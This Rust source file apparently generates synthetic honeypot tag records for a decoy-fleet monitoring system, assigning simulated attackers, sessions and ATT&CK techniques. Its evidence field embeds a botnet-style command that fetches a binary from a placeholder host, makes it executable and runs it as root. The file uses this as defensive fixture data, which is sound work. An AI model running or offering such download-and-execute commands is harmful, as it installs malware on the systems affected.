//! Tags as a fleet of decoys gives them: in the order of time, many attackers with few sessions and few with many.

use vespid_model::UtcMicros;
use vespid_model::id::{AttackerId, IdentityId};
use vespid_model::record::TagRecord;
use vespid_model::release::Release;

/// Attackers that are known before any tag comes.
pub(crate) const ATTACKERS: u64 = 20_000;
/// Attackers of one identity.
const HANDS: u64 = 4;
/// Identities of one campaign.
const TOGETHER: u64 = 10;
const DECKIES: u64 = 12;
const RULES: u64 = 120;
/// Tags of one session.
const TAGS: u64 = 16;
/// Microseconds between two sessions.
const APART: u64 = 40_000_000;

/// Techniques as rules name them: tactic and code of the technique.
const TECHNIQUES: u64 = 60;

/// A number that looks random, the same every time.
pub(crate) const fn mixed(seed: u64) -> u64 {
    let mut x = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

pub(crate) fn attacker_id(number: u64) -> AttackerId {
    AttackerId::from_bytes(sixteen(1, number))
}

pub(crate) fn identity_id(number: u64) -> IdentityId {
    IdentityId::from_bytes(sixteen(2, number))
}

pub(crate) fn sixteen(kind: u64, number: u64) -> [u8; 16] {
    (u128::from(mixed(kind)) << 64 | u128::from(mixed(number ^ kind << 40))).to_be_bytes()
}

pub(crate) const fn identity_of(attacker: u64) -> u64 {
    attacker / HANDS
}

pub(crate) const fn campaign_of(identity: u64) -> u64 {
    identity / TOGETHER
}

pub(crate) const fn identities() -> u64 {
    ATTACKERS / HANDS
}

pub(crate) const fn campaigns() -> u64 {
    identities() / TOGETHER
}

pub(crate) fn ip(attacker: u64) -> String {
    format!("10.{}.{}.{}", attacker >> 16 & 255, attacker >> 8 & 255, attacker & 255)
}

/// Who is at work in a session: half of all sessions are those of a hundredth of the attackers.
pub(crate) const fn attacker_of(session: u64) -> u64 {
    let dice = mixed(session ^ 0x5e55);
    if dice.is_multiple_of(2) { dice / 2 % (ATTACKERS / 100) } else { dice / 2 % ATTACKERS }
}

/// Tag number `number` of the fleet.
pub(crate) fn record(number: u64) -> TagRecord {
    let session = number / TAGS;
    let attacker = attacker_of(session);
    // Who comes again does much the same again; a session shows about six techniques.
    let technique = mixed(attacker % 40 * 64 + mixed(number) % 6) % TECHNIQUES;
    let rule = technique * 2 + mixed(number) % 2;
    let (parent, sub) = (1000 + technique / 2, technique % 2);
    let text = if sub == 0 { format!("T{parent}") } else { format!("T{parent}.001") };
    let tactic = ["TA0001", "TA0002", "TA0003", "TA0005", "TA0007", "TA0011"];
    let tactic = tactic[usize::try_from(technique % 6).unwrap()];
    let time = 1_790_000_000_000_000 + session * APART / 8 + number % TAGS * 1_500_000;
    TagRecord {
        source_kind: "command".to_owned(),
        source_id: format!("{session:08x}#cmd{}", number % TAGS),
        attacker: Some(attacker_id(attacker)),
        identity: None,
        session: Some(format!("{session:012x}")),
        decky: Some(format!("decky-{:02}", mixed(session) % DECKIES)),
        tactic: tactic.parse().unwrap(),
        technique: text.parse().unwrap(),
        confidence: [0.45, 0.65, 0.85, 0.95][usize::try_from(rule % 4).unwrap()],
        rule: format!("rule_{:03}", rule % RULES),
        rule_version: 1,
        evidence: format!(
            "{{\"command_text\":\"cd /tmp; wget http://198.51.100.{}/bin/arm7; chmod 777 arm7; ./arm7 {}\",\"uid\":0}}",
            session % 250,
            number % 97
        ),
        release: Release::new(19, 2),
        created_at: UtcMicros::from_micros(i64::try_from(time).unwrap()),
    }
}
